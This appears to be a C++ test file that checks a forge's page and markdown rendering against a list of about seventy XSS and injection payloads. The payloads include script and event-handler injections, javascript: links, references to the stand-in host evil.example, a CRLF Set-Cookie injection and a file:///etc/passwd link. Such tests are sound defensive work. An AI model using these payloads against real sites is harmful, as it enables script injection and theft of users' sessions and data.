// Hostile texts through every page: whatever a title, a body, a comment, a label, a login or a
// search says, the page holds no tag, attribute or address but those the forge itself writes.
#include <doctest/doctest.h>

#include <iterator>
#include <map>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "forge/markdown.h"
#include "forge/page.h"
#include "tests/support/html_faults.h"

namespace forge {
namespace {

const char* const kHostile[] = {
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)' x='",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=form_token>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](blob:https://a/b)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/p.png \"onerror=alert(1)\")",
    "![x](//evil.example/p.png)",
    "![x\" onerror=\"alert(1)](/a.png)",
    "![x](/a\"onerror=\"alert(1).png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=\"alert(1)>",
    "https://a.example/\"onclick=\"alert(1)",
    "www.a.example/<script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` js onload=alert(1)\nx\n```",
    "~~~<script>\n</code></pre><script>alert(1)</script>\n~~~",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:\"onclick=alert(1)|\n| b |",
    "- [x\" onclick=\"alert(1)] x",
    "#12<script>alert(1)</script>",
    "#12\" onclick=\"alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "\xf0\x9f\x98\x80\xff\xfe<script>alert(1)</script>",
    "\xc0\xbcscript\xc0\xbe",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "]]><script>alert(1)</script>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(javascript:alert(1))\">",
    "red;background:url(//evil.example)",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
};

ThreadView make_hostile_thread(const std::string& text) {
  const base::WallTime start = base::wall_from_ms(1'763'646'756'000);
  ThreadView view;
  const User person{7, text, start};
  view.viewer = {text, text, Role::admin};
  view.repository = {1, {2, "o", start}, "r", start, start, 1};
  view.issue.number = 7;
  view.issue.author = person;
  view.issue.title = text;
  view.issue.body = text;
  view.issue.state_reason = text;
  view.issue.lock_reason = text;
  view.issue.labels = {{1, text, text, text}};
  view.issue.assignees = {person};
  view.issue.milestone.emplace().title = text;
  view.issue.reactions = {1, 0, 2, 0, 0, 0, 0, 0};
  view.issue.created = view.issue.updated = start;
  view.comments = {{11, 7, person, text, start, start + base::Millis(1), {3}}};
  view.labels = view.issue.labels;
  Id id = 1;
  for (const EventKind kind :
       {EventKind::labeled, EventKind::unlabeled, EventKind::closed, EventKind::reopened,
        EventKind::renamed, EventKind::assigned, EventKind::unassigned, EventKind::locked,
        EventKind::unlocked, EventKind::milestoned, EventKind::demilestoned, EventKind::merged}) {
    view.events.push_back({id, person, kind, text, text, person, start + base::Millis(id)});
    ++id;
  }
  return view;
}

TEST_CASE("hostile texts: every page is made of the forge's own tags alone") {
  for (const std::string text : kHostile) {
    CAPTURE(text);
    const ThreadView thread = make_hostile_thread(text);
    ListView list;
    list.viewer = thread.viewer;
    list.repository = thread.repository;
    list.issues = {thread.issue};
    list.label = text;
    list.labels = thread.labels;
    list.search = text;
    list.open_count = list.closed_count = 100;
    list.page = {2, 25};
    ListView empty = list;
    empty.issues.clear();
    empty.fault = text;
    const std::vector<std::string> none;
    CHECK(support::find_html_faults(render_thread(thread)) == none);
    CHECK(support::find_html_faults(render_list(list)) == none);
    CHECK(support::find_html_faults(render_list(empty)) == none);
    CHECK(support::find_html_faults(render_sign_in(text)) == none);
    CHECK(support::find_html_faults(render_message(text, text)) == none);
    CHECK(support::find_html_faults(render_markdown(text, "/o/r/issues")) == none);
  }
}

TEST_CASE("hostile texts: two of them together do no more") {
  for (const std::string first : kHostile) {
    for (const std::string second : kHostile) {
      CAPTURE(first);
      CAPTURE(second);
      for (const char* between : {"", " ", "\n", "\n\n> "}) {
        REQUIRE(support::find_html_faults(render_markdown(first + between + second, "/o/r/issues"))
                    .empty());
      }
    }
  }
}

TEST_CASE("hostile texts: nor do pieces of them, cut anywhere and joined by chance") {
  std::mt19937_64 dice(20'261'120);
  const auto pick = [&](std::size_t below) { return static_cast<std::size_t>(dice() % below); };
  for (int round = 0; round < 5000; ++round) {
    std::string text;
    for (std::size_t part = 2 + pick(4); part > 0; --part) {
      const std::string_view whole = kHostile[pick(std::size(kHostile))];
      const std::size_t from = pick(whole.size());
      text += whole.substr(from, 1 + pick(whole.size() - from));
    }
    CAPTURE(text);
    REQUIRE(support::find_html_faults(render_markdown(text, "/o/r/issues")).empty());
  }
}

TEST_CASE("hostile texts: the reader that judges them sees what a browser would run") {
  for (const char* html :
       {"<script>alert(1)</script><script>", "<img src=x onerror=alert(1)>", "<p onclick=\"x\">",
        "<a href=\"javascript:alert(1)\">", "<iframe>", "<img src=\"//evil.example/x\">",
        "<svg/onload=alert(1)>", "<IMG SRC=\"https://evil.example\">"}) {
    CAPTURE(html);
    CHECK_FALSE(support::find_html_faults(html).empty());
  }
}

}  // namespace
}  // namespace forge
